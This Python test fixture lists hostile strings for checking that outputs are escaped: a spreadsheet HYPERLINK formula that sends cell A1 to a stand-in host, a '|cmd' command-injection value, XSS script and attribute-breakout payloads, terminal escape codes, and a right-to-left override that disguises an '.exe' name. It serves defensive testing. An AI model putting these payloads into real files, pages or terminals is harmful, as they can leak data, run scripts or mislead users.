"""Text that attacks whatever shows it: every field of every output is tested with all of these."""

from __future__ import annotations

FORMULA = '=HYPERLINK("http://host/?"&A1,"open")'
TABBED_FORMULA = "\t=1+1"
FULL_WIDTH_FORMULA = "＝1+1"
SPACED_FORMULA = "  @SUM(A1)"
QT_PICTURE = '<img src="//host/share/x.png">'
SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE_END = "\"' onmouseover='alert(1)"
ENTITY = "&lt;b&gt;"
TERMINAL_CLEAR = "\x1b[2J\x1b]0;title\x07"
TERMINAL_MARKUP = "[red]rich[/red] [link=http://host]x[/link] [/]"
BELL_AND_CONTROL = "a\x08\x9b31mb"
RIGHT_TO_LEFT = "report\u202egnp.exe"
LINE_BREAK = "first\r\nsecond\u2028third"
MATHTEXT = r"r$\frac{$"
MATHTEXT_WHOLE = r"$x^{2}$"
PERCENT = "%s %(name)s {0} {name}"
SURROGATE = "a\udcffb"

HOSTILE = (
    *(FORMULA, TABBED_FORMULA, FULL_WIDTH_FORMULA, SPACED_FORMULA, "-1+1|cmd", "+1", "@x", "\r=1"),
    *(QT_PICTURE, SCRIPT, ATTRIBUTE_END, ENTITY),
    *(TERMINAL_CLEAR, TERMINAL_MARKUP, BELL_AND_CONTROL, RIGHT_TO_LEFT, LINE_BREAK),
    *(MATHTEXT, MATHTEXT_WHOLE, PERCENT, SURROGATE),
)
# What a file system takes as part of a name.
HOSTILE_NAMES = tuple(
    text
    for text in HOSTILE
    if not set(text) & set("/\\\0\r\n\t\x1b\x07\x08\x9b\u2028\udcff") and len(text) < 60
)
